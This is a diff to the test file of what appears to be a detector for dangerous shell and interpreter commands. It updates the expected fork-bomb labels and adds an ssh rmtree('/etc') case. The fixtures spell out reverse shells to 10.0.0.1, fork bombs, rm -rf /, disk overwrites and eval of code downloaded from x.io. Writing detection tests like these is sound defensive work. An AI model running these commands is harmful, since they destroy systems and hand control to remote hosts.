@@ -149,8 +149,8 @@ fn python() {
                 "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0);p=subprocess.call([\"/bin/sh\",\"-i\"]);",
                 "nc -e /bin/sh 10.0.0.1 1234",
             ),
-            ("import os\nwhile 1: os.fork()", ":(); :"),
-            ("import os\nwhile True:\n    os.fork()\n", ":(); :"),
+            ("import os\nwhile 1: os.fork()", "fork(); fork"),
+            ("import os\nwhile True:\n    os.fork()\n", "fork(); fork"),
             ("import os; os.system('\\x72\\x6d -rf /')", "rm -rf /"),
             ("import os; os.chdir('/tmp/x'); os.system('ls'); import shutil; shutil.rmtree('.')", "ls; rm -rf $_/."),
             ("import os; r = os.system; r('reboot')", "reboot"),
@@ -214,9 +214,9 @@ fn perl() {
             ("open(F, \">/dev/sda\"); print F 0 x 512", "> /dev/sda"),
             ("open(F, \"rm -rf / |\")", "rm -rf /"),
             ("open(F, \"|sh -c ls\")", "sh -c ls"),
-            ("fork while 1", ":(); :"),
-            ("fork while fork", ":(); :"),
-            ("while(1){fork}", ":(); :"),
+            ("fork while 1", "fork(); fork"),
+            ("fork while fork", "fork(); fork"),
+            ("while(1){fork}", "fork(); fork"),
             ("use LWP::Simple; eval get(\"http://x.io/a\")", "curl http://x.io/a | perl"),
             ("use MIME::Base64; eval(decode_base64(\"c3lzdGVt\"))", "base64 -d | perl"),
             ("eval \"system(q(rm -rf /))\"", "rm -rf /"),
@@ -282,8 +282,8 @@ fn ruby() {
             ("require 'open-uri'; eval(URI.open('http://x.io/a').read)", "curl http://x.io/a | ruby"),
             ("require 'net/http'; eval Net::HTTP.get(URI('http://x.io/a'))", "curl http://x.io/a | ruby"),
             ("eval(Base64.decode64('eA=='))", "base64 -d | ruby"),
-            ("loop { fork }", ":(); :"),
-            ("fork while true", ":(); :"),
+            ("loop { fork }", "fork(); fork"),
+            ("fork while true", "fork(); fork"),
             (
                 "require 'socket'; s=TCPSocket.new(\"10.0.0.1\", 4242); $stdin.reopen(s); exec \"/bin/sh -i\"",
                 "nc -e /bin/sh 10.0.0.1 4242",
@@ -374,7 +374,7 @@ fn php_and_lua() {
             ("eval(file_get_contents('http://x.io/a'));", "curl http://x.io/a | php"),
             ("eval(base64_decode('eA=='));", "base64 -d | php"),
             ("eval('system(\"rm -rf /\");');", "rm -rf /"),
-            ("while(1) pcntl_fork();", ":(); :"),
+            ("while(1) pcntl_fork();", "fork(); fork"),
             ("system('rm -rf ' . getenv('HOME'));", "rm -rf $HOME"),
             ("$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");", "nc -e /bin/sh 10.0.0.1 4242"),
         ],
@@ -519,6 +519,9 @@ fn marks_point_into_the_code() {
     );
     check_marks(
         "python3 -c 'import os; os.system(\"rm -rf /\")'\n#                                        ^ CARO0101\n",
+    );
+    check_marks(
+        "ssh host \"python3 -c 'import shutil; shutil.rmtree(\\\"/etc\\\")'\"\n#                                                   ^^^^ CARO0101\n",
     );
     check_marks("perl -e 'fork while 1'\n#        ^^^^^^^^^^^^^ CARO0601\n");
     check_marks("python3 <<E\nopen('/etc/passwd', 'w')\nE\n#mark 1 6 17 CARO0102\n");
